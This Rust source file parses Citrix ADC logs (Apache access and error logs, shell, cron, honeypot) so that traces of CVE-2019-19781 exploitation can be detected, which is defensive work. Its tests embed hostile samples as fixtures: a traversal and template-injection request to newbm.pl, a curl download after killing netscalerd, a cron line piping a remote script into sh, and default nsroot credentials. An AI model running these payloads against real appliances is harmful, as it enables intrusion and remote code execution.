//! The appliance's own files, where CVE-2019-19781 leaves its traces: Apache `httpaccess.log` and
//! `httperror.log`, the FreeBSD shell logs (`bash.log`, `sh.log`, `notice.log`), `cron`, other
//! FreeBSD syslog lines, and the citrix-honeypot logs used to study the exploit. Each parser takes the
//! payload after any syslog envelope and fills ECS fields.

use std::borrow::Cow;

use chrono::{DateTime, FixedOffset, NaiveDate, NaiveDateTime, TimeZone, Utc};
use smallvec::SmallVec;

use super::body::url_fields;
use super::fields::{self, Field, Fields, Value};
use super::time;

/// `IP[ -> IP] [ident user [dd/Mon/yyyy:HH:MM:SS +zzzz] [pid]] "METHOD target PROTO" status bytes
/// ["referer" "agent"] ["Time: N microsecs"]` — the classic combined form and the newer `a -> b` form
/// (server address, optional pid, sometimes no identity or time). Returns `Some(time written in the
/// line)` for an access line, `None` for anything else.
pub fn httpaccess<'a>(line: &'a str, out: &mut Fields<'a>) -> Option<Option<DateTime<Utc>>> {
    let (client, rest) = line.split_once(' ')?;
    if !fields::is_ip(client) {
        return None;
    }
    let mut rest = rest;
    let mut server = None;
    if let Some(after) = rest.strip_prefix("-> ") {
        let (ip, after) = after.split_once(' ')?;
        server = Some(ip);
        rest = after;
    }
    let mut user = "-";
    let mut at = None;
    let mut pid = None;
    if !rest.starts_with('"') {
        let (_ident, after) = rest.split_once(' ')?;
        let (u, after) = after.split_once(' ')?;
        user = u;
        let after = after.strip_prefix('[')?;
        let (stamp, after) = after.split_once("] ")?;
        at = Some(DateTime::parse_from_str(stamp, "%d/%b/%Y:%H:%M:%S %z").ok()?.with_timezone(&Utc));
        rest = after;
        if let Some(inner) = rest.strip_prefix('[') {
            let (p, after) = inner.split_once("] ")?;
            pid = Some(p);
            rest = after;
        }
    }
    let rest = rest.strip_prefix('"')?;
    let (request, rest) = split_quoted(rest)?;
    let mut numbers = rest.trim_start().splitn(3, ' ');
    let status = numbers.next()?;
    if status.len() != 3 || !status.bytes().all(|b| b.is_ascii_digit()) {
        return None;
    }
    let bytes = numbers.next().unwrap_or("-");
    let tail = numbers.next().unwrap_or("");

    out.str("source.ip", client);
    if let Some(server) = server {
        out.address("destination.ip", "destination.port", server);
    }
    if user != "-" {
        out.str("user.name", user);
    }
    if let Some(pid) = pid {
        out.int("process.pid", pid);
    }
    request_line(request, out);
    out.int("http.response.status_code", status);
    out.int("http.response.body.bytes", bytes);
    let mut quoted = Vec::with_capacity(3);
    let mut tail = tail.trim_start();
    while let Some(inner) = tail.strip_prefix('"') {
        let Some((value, after)) = split_quoted(inner) else { break };
        quoted.push(value);
        tail = after.trim_start();
    }
    let mut quoted = quoted.into_iter();
    if let Some(referrer) = quoted.next() {
        out.str("http.request.referrer", referrer);
    }
    if let Some(agent) = quoted.next() {
        out.str("user_agent.original", agent);
    }
    for extra in quoted {
        if let Some(us) = extra.strip_prefix("Time: ").and_then(|t| t.strip_suffix(" microsecs")) {
            if let Ok(us) = us.trim().parse::<i64>() {
                out.number("event.duration", us * 1000);
            }
        }
    }
    Some(at)
}

/// `user on tty shell_command=` / `return_code=`: the shape of the appliance's shell logs.
pub fn is_shell(payload: &str) -> bool {
    match payload.split_once(" on ") {
        Some((user, rest)) if !user.contains(' ') => match rest.split_once(' ') {
            Some((_, rest)) => rest.starts_with("shell_command=\"") || rest.starts_with("return_code=\""),
            None => false,
        },
        _ => false,
    }
}

/// Splits `value" rest` at the closing quote; `\"` does not close.
fn split_quoted(s: &str) -> Option<(&str, &str)> {
    let bytes = s.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        match bytes[i] {
            b'\\' => i += 2,
            b'"' => return Some((&s[..i], &s[i + 1..])),
            _ => i += 1,
        }
    }
    None
}

/// `METHOD target HTTP/x.y` → method, url.* (raw and normalised path), http.version.
pub fn request_line<'a>(request: &'a str, out: &mut Fields<'a>) {
    let mut parts = request.splitn(3, ' ');
    let method = parts.next().unwrap_or("");
    let target = parts.next().unwrap_or("");
    let protocol = parts.next().unwrap_or("");
    out.str("http.request.method", method);
    url_fields(target, out);
    normalized_path(out);
    if let Some(version) = protocol.strip_prefix("HTTP/") {
        out.str("http.version", version);
    }
}

/// `gatewatch.url.normalized_path` from `url.path`, for every record that carries a request URL (the
/// access log, HTTPREQUEST, AppFW): the rules match on it whichever log saw the request.
pub fn normalized_path<'a>(out: &mut Fields<'a>) {
    let Some(field) = out.0.iter().find(|f| f.name == "url.path") else { return };
    let value = match &field.value {
        // A path read from the record that is normal already is kept as it is, borrowed.
        &Value::Str(path) => match normalize_path(path) {
            Cow::Borrowed(_) => Value::Str(path),
            Cow::Owned(normal) => Value::Owned(normal),
        },
        Value::Owned(path) => Value::Owned(normalize_path(path).into_owned()),
        Value::Keyword(path) => Value::Owned(normalize_path(path).into_owned()),
        _ => return,
    };
    out.0.push(Field { name: "gatewatch.url.normalized_path", value });
}

/// Percent-decodes a path and resolves `.` and `..` segments, as the web server would before
/// routing: `/vpn/../vpns/portal/scripts/newbm.pl` → `/vpns/portal/scripts/newbm.pl`.
pub fn normalize_path(path: &str) -> Cow<'_, str> {
    let bytes = path.as_bytes();
    // Nothing to decode or resolve: the path as it is.
    if path.starts_with('/')
        && !bytes.iter().any(|&b| b == b'%' || b == b'\\')
        && path.split('/').all(|s| s != "." && s != "..")
    {
        return Cow::Borrowed(path);
    }
    let mut decoded = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'%' && i + 2 < bytes.len() {
            let hex = std::str::from_utf8(&bytes[i + 1..i + 3]).ok().and_then(|h| u8::from_str_radix(h, 16).ok());
            if let Some(b) = hex {
                decoded.push(b);
                i += 3;
                continue;
            }
        }
        decoded.push(bytes[i]);
        i += 1;
    }
    let decoded = String::from_utf8_lossy(&decoded).replace('\\', "/");
    let mut segments: Vec<&str> = Vec::new();
    for segment in decoded.split('/') {
        match segment {
            "." => {}
            ".." => {
                segments.pop();
            }
            s => segments.push(s),
        }
    }
    let mut out = segments.join("/");
    if !out.starts_with('/') {
        out.insert(0, '/');
    }
    if (decoded.ends_with("/..") || decoded.ends_with("/.")) && !out.ends_with('/') {
        out.push('/');
    }
    Cow::Owned(out)
}

/// An Apache error-log time, fractional seconds dropped (`Wed Jan 15 15:09:05.123456 2020`); the
/// shortened text is put together on the stack.
fn apache_time(stamp: &str) -> Option<NaiveDateTime> {
    const FORMAT: &str = "%a %b %d %H:%M:%S %Y";
    let Some(dot) = stamp.find('.') else { return NaiveDateTime::parse_from_str(stamp, FORMAT).ok() };
    let mut text: SmallVec<[u8; 96]> = SmallVec::new();
    text.extend_from_slice(&stamp.as_bytes()[..dot]);
    if let Some((_, year)) = stamp[dot..].split_once(' ') {
        text.push(b' ');
        text.extend_from_slice(year.as_bytes());
    }
    NaiveDateTime::parse_from_str(std::str::from_utf8(&text).ok()?, FORMAT).ok()
}

/// Apache error log: `[Wed Jan 15 15:09:05 2020] [level] [client ip] message` (2.2), or
/// `[Wed Jan 15 15:09:05.123 2020] [module:level] [pid N] [client ip:port] message` (2.4). Anything
/// else is the stderr of a CGI or command, kept as the message with the command name lifted.
/// Returns the local time written in the line, if any.
pub fn httperror<'a>(line: &'a str, out: &mut Fields<'a>) -> Option<NaiveDateTime> {
    let mut at = None;
    let mut rest = line.trim_start();
    if let Some(inner) = rest.strip_prefix('[') {
        if let Some((stamp, after)) = inner.split_once(']') {
            if let Some(t) = apache_time(stamp) {
                at = Some(t);
                rest = after.trim_start();
                while let Some(inner) = rest.strip_prefix('[') {
                    let Some((tag, after)) = inner.split_once(']') else { break };
                    if let Some(client) = tag.strip_prefix("client ") {
                        out.address("source.ip", "source.port", client);
                    } else if let Some(pid) = tag.strip_prefix("pid ") {
                        out.int("process.pid", pid.split(':').next().unwrap_or(pid));
                    } else {
                        let level = tag.rsplit(':').next().unwrap_or(tag);
                        out.str("log.level", level);
                    }
                    rest = after.trim_start();
                }
            }
        }
    }
    if at.is_none() {
        stderr_line(rest, out);
    }
    out.str("citrix_adc.httperror.message", rest);
    at
}

/// `curl: (7) Failed to connect to 1.2.3.4 port 443: ...`, `wget: not found`, `bash: line 1: ...`.
fn stderr_line<'a>(line: &'a str, out: &mut Fields<'a>) {
    if let Some((command, _)) = line.split_once(": ") {
        if !command.is_empty()
            && command.len() <= 32
            && command.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
        {
            out.str("process.name", command);
        }
    }
    if let Some(i) = line.find("Failed to connect to ") {
        let rest = &line[i + 21..];
        let mut words = rest.split(' ');
        let host = words.next().unwrap_or("");
        if words.next() == Some("port") {
            let port = words.next().unwrap_or("").trim_end_matches(':');
            if fields::is_ip(host) {
                out.str("destination.ip", host);
            } else {
                out.str("destination.domain", host);
            }
            out.int("destination.port", port);
        }
    }
}

/// `user on tty shell_command="..."` / `user on tty return_code="N"` (bash.log, sh.log, notice.log).
/// The command may span lines and contain quotes; an unclosed quote takes the rest of the record.
pub fn shell<'a>(payload: &'a str, out: &mut Fields<'a>) -> Option<&'static str> {
    let (user, rest) = payload.split_once(" on ")?;
    let (tty, rest) = rest.split_once(' ')?;
    out.str("user.name", user);
    out.str("citrix_adc.shell.tty", tty);
    if let Some(command) = rest.strip_prefix("shell_command=\"") {
        let command = command.strip_suffix('"').unwrap_or(command);
        let command = command.trim_matches('\n');
        out.str("process.command_line", command);
        if let Some(executable) = command.split_ascii_whitespace().next() {
            out.str("process.executable", executable);
        }
        return Some("shell-command");
    }
    if let Some(code) = rest.strip_prefix("return_code=\"") {
        out.int("process.exit_code", code.trim_end_matches('"'));
        return Some("shell-return-code");
    }
    None
}

/// FreeBSD cron: `(user) CMD (command)`.
pub fn cron<'a>(payload: &'a str, out: &mut Fields<'a>) -> Option<&'static str> {
    let rest = payload.strip_prefix('(')?;
    let (user, rest) = rest.split_once(") ")?;
    out.str("user.name", user);
    if let Some(command) = rest.strip_prefix("CMD (") {
        let command = command.strip_suffix(')').unwrap_or(command).trim();
        out.str("process.command_line", command);
        if let Some(executable) = command.split_ascii_whitespace().next() {
            out.str("process.executable", executable);
        }
        return Some("cron-command");
    }
    out.str("citrix_adc.cron.message", rest);
    Some("cron")
}

/// A honeypot record starts `YYYY/MM/DD HH:MM:SS`; returns that time (UTC) and the rest.
pub fn honeypot_start(line: &str) -> Option<(DateTime<Utc>, &str)> {
    let stamp = line.get(..19)?;
    let (date, time_of_day) = stamp.split_once(' ')?;
    let mut parts = date.split('/');
    let (y, m, d) = (parts.next()?, parts.next()?, parts.next()?);
    if y.len() != 4 || m.len() != 2 || d.len() != 2 {
        return None;
    }
    let date = NaiveDate::from_ymd_opt(y.parse().ok()?, m.parse().ok()?, d.parse().ok()?)?;
    let t = time::time_of_day(time_of_day)?;
    Some((Utc.from_utc_datetime(&date.and_time(t)), &line[19..]))
}

/// citrix-honeypot `hits.log` (multi-line: banner, `src:`, raw request) and `logins.log` records.
pub fn honeypot<'a>(rest: &'a str, out: &mut Fields<'a>) -> &'static str {
    let rest = rest.trim_start_matches(' ');
    if let Some(login) = rest.strip_prefix("Failed login from ") {
        let (ip, creds) = login.split_once(' ').unwrap_or((login, ""));
        out.str("source.ip", ip);
        for cred in creds.split(' ') {
            if let Some(user) = cred.strip_prefix("user:") {
                out.str("user.name", user);
            } else if let Some(pass) = cred.strip_prefix("pass:") {
                out.str("citrix_honeypot.password", pass);
            }
        }
        out.keyword("event.outcome", "failure");
        return "failed-login";
    }
    let mut action = "hit";
    let mut lines = rest.lines().map(str::trim_end);
    let mut in_headers = false;
    let mut body_start = None;
    for line in lines.by_ref() {
        if line.starts_with("Exploitation detected") {
            action = "exploitation";
        } else if line.starts_with("Scanning detected") {
            action = "scanning";
        } else if let Some(ip) = line.strip_prefix("src: ") {
            out.str("source.ip", ip);
        } else if !in_headers && line.contains(" HTTP/") {
            request_line(line, out);
            in_headers = true;
        } else if in_headers && line.is_empty() {
            body_start = Some(());
            break;
        } else if in_headers {
            if let Some((name, value)) = line.split_once(": ") {
                match name.to_ascii_lowercase().as_str() {
                    "user-agent" => out.str("user_agent.original", value),
                    "host" => out.str("url.domain", value),
                    "nsc_user" => out.str("citrix_honeypot.nsc_user", value),
                    "nsc_nonce" => out.str("citrix_honeypot.nsc_nonce", value),
                    "content-length" => out.int("http.request.body.bytes", value),
                    _ => {}
                }
            }
        }
    }
    if body_start.is_some() {
        let body: Vec<&str> = lines.collect();
        if let (Some(first), Some(last)) = (body.first(), body.last()) {
            let start = first.as_ptr() as usize - rest.as_ptr() as usize;
            let end = last.as_ptr() as usize - rest.as_ptr() as usize + last.len();
            out.str("http.request.body.content", &rest[start..end]);
        }
    }
    action
}

/// Interprets a local date-time in `tz`; the earlier instant when a DST change makes it ambiguous.
pub fn local_to_utc(t: NaiveDateTime, tz: chrono_tz::Tz) -> DateTime<Utc> {
    match tz.from_local_datetime(&t) {
        chrono::LocalResult::Single(x) | chrono::LocalResult::Ambiguous(x, _) => x.with_timezone(&Utc),
        // In a DST gap the wall time does not exist; read it with the offset before the gap.
        chrono::LocalResult::None => {
            let offset = tz.offset_from_utc_datetime(&t);
            let fixed: FixedOffset = chrono::Offset::fix(&offset);
            (t - fixed).and_utc()
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn access_line_with_time_suffix() {
        let mut f = Fields::default();
        let line = r#"192.168.0.4 - - [28/Nov/2019:22:28:20 +0000] "POST /vpns/portal/scripts/newbm.pl HTTP/1.1" 200 135 "-" "Mozilla/5.0 (Macintosh)" "Time: 6809 microsecs""#;
        let at = httpaccess(line, &mut f).unwrap();
        assert_eq!(at, Some(Utc.with_ymd_and_hms(2019, 11, 28, 22, 28, 20).unwrap()));
        assert_eq!(f.get_str("source.ip"), Some("192.168.0.4"));
        assert_eq!(f.get_str("http.request.method"), Some("POST"));
        assert_eq!(f.get_str("url.path"), Some("/vpns/portal/scripts/newbm.pl"));
        assert_eq!(f.get_int("http.response.status_code"), Some(200));
        assert_eq!(f.get_int("http.response.body.bytes"), Some(135));
        assert_eq!(f.get_str("user_agent.original"), Some("Mozilla/5.0 (Macintosh)"));
        assert_eq!(f.get_int("event.duration"), Some(6_809_000));
        assert_eq!(f.get_str("http.version"), Some("1.1"));
    }

    #[test]
    fn traversal_is_normalised_but_the_raw_path_kept() {
        let mut f = Fields::default();
        let line = r#"127.0.0.1 - - [23/Jan/2020:22:30:22 +0000] "PUT /vpn/../vpns/portal/lol[%25template.new({'BLOCK'%3d'print`id`'})%25].xml HTTP/1.1" 200 753 "-" "-""#;
        httpaccess(line, &mut f).unwrap();
        assert_eq!(
            f.get_str("url.path"),
            Some("/vpn/../vpns/portal/lol[%25template.new({'BLOCK'%3d'print`id`'})%25].xml")
        );
        assert_eq!(
            f.get_str("gatewatch.url.normalized_path"),
            Some("/vpns/portal/lol[%template.new({'BLOCK'='print`id`'})%].xml")
        );
        assert_eq!(normalize_path("/vpn/%2e%2e/vpns/cfg/smb.conf"), "/vpns/cfg/smb.conf");
        assert_eq!(normalize_path("/a/./b/../../c"), "/c");
        assert_eq!(normalize_path("/%zz"), "/%zz");
    }

    #[test]
    fn arrow_form_names_the_server() {
        let mut f = Fields::default();
        httpaccess(
            r#"10.0.0.1 -> 10.0.0.2 - - [28/Nov/2019:22:28:20 +0100] "GET / HTTP/1.1" 304 - "-" "curl/7""#,
            &mut f,
        )
        .unwrap();
        assert_eq!(f.get_str("destination.ip"), Some("10.0.0.2"));
        assert!(f.get("http.response.body.bytes").is_none());
        let mut f = Fields::default();
        let at = httpaccess(
            r#"1.2.3.4 -> 5.6.7.8 "GET /a?b=c HTTP/1.1" 200 14794 "-" "Prometheus/2.30.0" "Time: 65590 microsecs""#,
            &mut f,
        );
        assert_eq!(at, Some(None));
        assert_eq!(f.get_str("url.query"), Some("b=c"));
        let mut f = Fields::default();
        let at = httpaccess(
            r#"1.2.3.4 -> 1.2.3.4 - - [10/Jun/2024:23:07:11 +0530] [1571] "GET /nitro/v1/config/route6 HTTP/1.1" 200 1162 "-" "-""#,
            &mut f,
        );
        assert_eq!(at, Some(Some(Utc.with_ymd_and_hms(2024, 6, 10, 17, 37, 11).unwrap())));
        assert_eq!(f.get_int("process.pid"), Some(1571));
    }

    #[test]
    fn error_log_forms() {
        let mut f = Fields::default();
        let t = httperror("[Wed Jan 15 15:09:05 2020] [debug] mod_headers.c(756): headers: x", &mut f).unwrap();
        assert_eq!(t.to_string(), "2020-01-15 15:09:05");
        assert_eq!(f.get_str("log.level"), Some("debug"));
        let mut f = Fields::default();
        assert!(
            httperror("curl: (7) Failed to connect to 95.179.163.186 port 443: Operation timed out", &mut f).is_none()
        );
        assert_eq!(f.get_str("process.name"), Some("curl"));
        assert_eq!(f.get_str("destination.ip"), Some("95.179.163.186"));
        assert_eq!(f.get_int("destination.port"), Some(443));
    }

    #[test]
    fn shell_and_cron() {
        let mut f = Fields::default();
        assert_eq!(
            shell("root on /dev/pts/0 shell_command=\"\npkill -9 netscalerd; curl -k\nhttps://x/y -o /tmp/h\"", &mut f),
            Some("shell-command")
        );
        assert_eq!(f.get_str("process.command_line"), Some("pkill -9 netscalerd; curl -k\nhttps://x/y -o /tmp/h"));
        assert_eq!(f.get_str("user.name"), Some("root"));
        let mut f = Fields::default();
        assert_eq!(shell("root on (null) return_code=\"1\"", &mut f), Some("shell-return-code"));
        assert_eq!(f.get_int("process.exit_code"), Some(1));
        let mut f = Fields::default();
        assert_eq!(
            cron("(nobody) CMD (curl http://185.178.45.221/ci.sh | sh > /dev/null 2>&1)", &mut f),
            Some("cron-command")
        );
        assert_eq!(f.get_str("user.name"), Some("nobody"));
        assert_eq!(f.get_str("process.command_line"), Some("curl http://185.178.45.221/ci.sh | sh > /dev/null 2>&1"));
    }

    #[test]
    fn honeypot_records() {
        let record = "2020/01/23 08:27:55 \n-------------------\nExploitation detected ...\nsrc: 1.2.3.4\nPOST /vpn/../vpns/portal/scripts/newbm.pl HTTP/2.0\nHost: h\nNsc_user: /../../x\nUser-Agent: curl/7.67.0\n\nurl=http://example.com";
        let (at, rest) = honeypot_start(record).unwrap();
        assert_eq!(at, Utc.with_ymd_and_hms(2020, 1, 23, 8, 27, 55).unwrap());
        let mut f = Fields::default();
        assert_eq!(honeypot(rest, &mut f), "exploitation");
        assert_eq!(f.get_str("source.ip"), Some("1.2.3.4"));
        assert_eq!(f.get_str("gatewatch.url.normalized_path"), Some("/vpns/portal/scripts/newbm.pl"));
        assert_eq!(f.get_str("citrix_honeypot.nsc_user"), Some("/../../x"));
        assert_eq!(f.get_str("http.request.body.content"), Some("url=http://example.com"));
        let mut f = Fields::default();
        let (_, rest) =
            honeypot_start("2020/01/23 07:26:03 Failed login from 5.6.7.8 user:nsroot pass:nsroot").unwrap();
        assert_eq!(honeypot(rest, &mut f), "failed-login");
        assert_eq!(f.get_str("user.name"), Some("nsroot"));
    }

    #[test]
    fn local_time_in_a_zone() {
        let t = NaiveDate::from_ymd_opt(2020, 1, 10).unwrap().and_hms_opt(9, 0, 0).unwrap();
        assert_eq!(local_to_utc(t, chrono_tz::Europe::Berlin), Utc.with_ymd_and_hms(2020, 1, 10, 8, 0, 0).unwrap());
    }
}
